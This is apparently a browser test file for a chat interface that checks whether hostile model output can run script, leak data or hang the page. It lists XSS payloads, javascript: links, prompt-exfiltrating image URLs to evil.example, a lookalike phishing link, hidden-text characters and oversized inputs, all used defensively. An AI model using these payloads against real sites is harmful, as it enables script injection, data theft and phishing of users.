import { chatModel, type Script } from "./harness/chat-api.js";
import { answers, ask, type ChatRig, piecesOf, startChatRig } from "./harness/chat-visit.js";

/*
 * What a hostile model, or a name that somebody else chose, may try: to run a script, to lead the reader's browser to
 * another host (an address can carry the prompt), to look like something else, or to hang the page. The same text comes
 * letter by letter and at once, because both ways are drawn differently.
 */

const EVIL = "https://evil.example";

const ATTACKS: readonly [name: string, text: string][] = [
  ["a script", "<script>flockTestBroken('script')</script>"],
  ["a script in markdown", "- <script src=https://evil.example/x.js></script>\n- **<script>1</script>**"],
  ["an image that fails", "<img src=x onerror=flockTestBroken('img')>"],
  ["an SVG that loads", "<svg onload=flockTestBroken('svg')><script>flockTestBroken('svg2')</script></svg>"],
  ["a frame", `<iframe srcdoc="<script>parent.flockTestBroken('frame')</script>" src=${EVIL}></iframe>`],
  ["a style", `<style>body{background:url(${EVIL}/style)}</style><link rel=stylesheet href=${EVIL}/a.css>`],
  ["a form and a base", `<base href=${EVIL}/><form action=${EVIL}><button>Go</button></form>`],
  [
    "a refresh and a prefetch",
    `<meta http-equiv=refresh content="0;${EVIL}"><link rel=dns-prefetch href=${EVIL}>`,
  ],
  [
    "custom elements and media",
    `<video src=${EVIL}/v autoplay></video><object data=${EVIL}></object><x-a onclick=1>`,
  ],
  ["a remote image", `![secret](${EVIL}/a.png?q=prompt)`],
  ["a remote image by reference", `![secret][r]\n\n[r]: ${EVIL}/b.png "t"`],
  ["an image in a link", `[![x](${EVIL}/c.png)](${EVIL}/click)`],
  ["an image as data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  [
    "a link that is a script",
    "[a](javascript:flockTestBroken('link')) [b](JaVaScRiPt:1) [c](java&#10;script:1)",
  ],
  [
    "a script by reference",
    "[a][r] <javascript:flockTestBroken('auto')>\n\n[r]: javascript:flockTestBroken('ref')",
  ],
  ["a link that is data", "[a](data:text/html,<script>1</script>) [b](vbscript:1) [c](file:///etc/passwd)"],
  [
    "a link that breaks out",
    '[a](https://a.example/"onmouseover="flockTestBroken(1)) [b](https://a.example/ "\\"><img src=x>")',
  ],
  ["a link of this page", "[log out](/console/keys) [x](//evil.example/) [y](?a) [z](#main)"],
  [
    "a link that looks like another",
    `[https://bank.example](${EVIL}/login) https://bank.example@evil.example/`,
  ],
  [
    "entities",
    "&lt;img src=x onerror=flockTestBroken(1)&gt; &#60;script&#62; &#x3c;b&#x3e; &#0; &#xD800; &bogus;",
  ],
  ["code that closes itself", "```html\n</code></pre><script>flockTestBroken('code')</script>\n```"],
  [
    "code with a hostile language",
    '```"><img src=x onerror=flockTestBroken(1)>\nx\n```\n\n```__proto__\nx\n```',
  ],
  [
    "a table of it",
    "| <b>a</b> | ![x](https://evil.example/t) |\n| - | - |\n| <img src=x> | [a](javascript:1) |",
  ],
  ["letters that turn the text", "if (admin\u202E\u2066) { \u202Dx\u2069 }\n\n`\u202Efdp.exe`"],
  [
    "letters that hide a text",
    `a${[..."ignore"].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join("")}b`,
  ],
  ["one endless word", "w".repeat(60_000)],
  ["one endless address", `https://a.example/${"x".repeat(20_000)}`],
  ["quotes within quotes", "> ".repeat(3_000)],
  ["lists within lists", Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n")],
  ["emphasis without end", "_a*".repeat(6_000)],
  ["brackets without end", "[](".repeat(6_000)],
  ["heads of tables without end", "|\n|-|\n".repeat(3_000)],
  ["accents without end", `Z${"\u0335\u0317\u0300".repeat(2_000)}`],
];

let rig: ChatRig;

beforeAll(async () => {
  rig = await startChatRig();
});
afterAll(async () => {
  await rig.close();
});

/** What is in an answer that must not be there. */
const FORBIDDEN = [
  "script, style, iframe, img, svg:not(figure svg, button svg), video, object, embed, form, base, link, meta, x-a",
  "[onerror], [onload], [onclick], [onmouseover], [style]:not(figure svg), [srcdoc]",
].join(", ");

describe("a hostile model", () => {
  it("runs nothing, reaches nobody, and hides nothing, letter by letter or at once", async () => {
    let text = "";
    const script: Script = (writer) => {
      if (text.length < 2_000) for (const piece of piecesOf(text)) writer.piece(piece);
      else for (let at = 0; at < text.length; at += 6_000) writer.piece(text.slice(at, at + 6_000));
      writer.end();
    };
    rig.answer(script);
    const visit = await rig.visit("/chat");
    const { page } = visit;
    const broken: string[] = [];
    await page.exposeFunction("flockTestBroken", (what: string) => broken.push(what));
    const found: string[] = [];
    for (const [index, [name, attack]] of ATTACKS.entries()) {
      text = `${attack}\n\nThe end ${index}.`;
      const began = Date.now();
      await ask(page, "Go on");
      const answer = answers(page).nth(index);
      await answer.getByText("212 tokens", { exact: true }).waitFor();
      const ms = Date.now() - began;
      if (ms > 10_000) found.push(`${name}: took ${ms} ms`);
      const bad = await answer.locator(FORBIDDEN).evaluateAll((all) => all.map((each) => each.outerHTML));
      const links = await answer
        .locator("a")
        .evaluateAll((all) => all.map((each) => each.getAttribute("href")));
      const odd = links.filter((href) => !/^(https?:\/\/|mailto:)/.test(href ?? ""));
      found.push(...bad.map((html) => `${name}: ${html}`), ...odd.map((href) => `${name}: link ${href}`));
      if ((await visit.sideways()) > 0) found.push(`${name}: scrolls sideways`);
    }
    expect(found).toEqual([]);
    expect(visit.faults()).toEqual([]);
    await answers(page).getByText("[image: secret]").first().waitFor();
    const phish = answers(page).getByRole("link", { name: "https://bank.example (evil.example)" });
    expect(await phish.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    await answers(page).getByText("⟨U+202E⟩").first().waitFor();
    await answers(page).getByText("⟨U+E0069⟩").waitFor();
    await page.reload();
    await answers(page)
      .getByText(`The end ${ATTACKS.length - 1}.`)
      .waitFor();
    expect(await page.locator("ol li").locator(FORBIDDEN).count()).toBe(0);
    expect(broken).toEqual([]);
    expect(visit.faults()).toEqual([]);
    await visit.close();
  });

  it("has no power by the names of models and workers, by an error, or by a story", async () => {
    const name = "<img src=x onerror=flockTestBroken(1)>\u202E";
    rig.answer((writer) => {
      writer.piece("fine", "<b>thinking</b> ![x](https://evil.example/z)");
      writer.end({
        eval_count: "<b>",
        done_reason: "<script>",
        flock: {
          job_id: "<img src=x>",
          workers: [name, {}],
          charge_micro: "1e9",
          resumes: "x",
          timing_ms: { "<b>": 1 },
        },
      });
    });
    rig.server.answer({ "GET /flock/v1/models": { json: { models: [chatModel(name)] } } });
    const visit = await rig.visit("/chat");
    const { page } = visit;
    const broken: string[] = [];
    await page.exposeFunction("flockTestBroken", (what: string) => broken.push(what));
    await ask(page, "<img src=x onerror=flockTestBroken(2)>");
    await answers(page).getByText("charge not known yet").click();
    await answers(page).getByText("tokens not known").waitFor();
    await answers(page).getByRole("heading", { name: "⟨U+202E⟩" }).waitFor();
    rig.answer((writer) => writer.error(400, "<script>flockTestBroken(3)</script> \u202E"));
    rig.server.answer({ "GET /flock/v1/models": { json: { models: [chatModel(name)] } } });
    await ask(page, "Again");
    await answers(page).getByText("<script>flockTestBroken(3)</script> ⟨U+202E⟩.").waitFor();
    await page.getByRole("combobox", { name: /^Model/ }).click();
    await page.getByRole("option").first().waitFor();
    expect(await page.locator("#root img, #root script, [role=listbox] img").count()).toBe(0);
    expect(broken).toEqual([]);
    expect(visit.faults(/status of 400/)).toEqual([]);
    await visit.close();
  });
});
